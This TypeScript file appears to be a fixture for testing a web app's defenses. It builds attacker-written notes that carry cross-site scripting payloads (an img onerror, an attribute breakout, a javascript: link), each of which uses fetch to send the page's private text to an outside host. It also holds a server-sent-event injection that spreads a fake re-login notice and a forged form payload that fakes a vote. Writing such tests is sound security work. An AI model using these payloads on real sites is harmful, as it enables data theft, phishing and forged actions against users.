// What the attacker publishes: notes as any account may write them, whose fields hold more than they should.
import type { Json } from '../core/event.ts'

const honest = { from: 'mallory', text: 'hello', colour: 'green', link: 'https://localhost/' }

/** Each with a script in one of its fields. @param to where a script sends what it could read */
export function scripted(to: string): Json[] {
  // Without a double quote: it stands in an attribute. As text/plain, which a page may send anywhere without asking first.
  const steal = (field: string) =>
    `fetch('${to}',{method:'POST',mode:'no-cors',body:JSON.stringify({line:'The script in “${field}” ran, and sent: '+document.getElementById('private').textContent})})`
  const image = (field: string) => `<img src="/no-such-image" onerror="${steal(field)}">`
  return [
    { ...honest, from: image('from') },
    { ...honest, text: image('text') },
    { ...honest, colour: `red">${image('colour')}<p title="` },
    { ...honest, link: `javascript:void ${steal('link')}` },
  ]
}

/** The end of its event, and one of a type that this account may not publish. */
export const broken = (link: string): Json => ({
  text: `hello\n\nevent: notice\ndata: Everybody has to log in anew, at ${link}\n`,
})

/** As a form sends it, `name=value`: cut where the sign between them will be. */
export const FORGED = '{"type":"note","data":{"text":"I give all my votes to mallory","ignored":"|"}}'
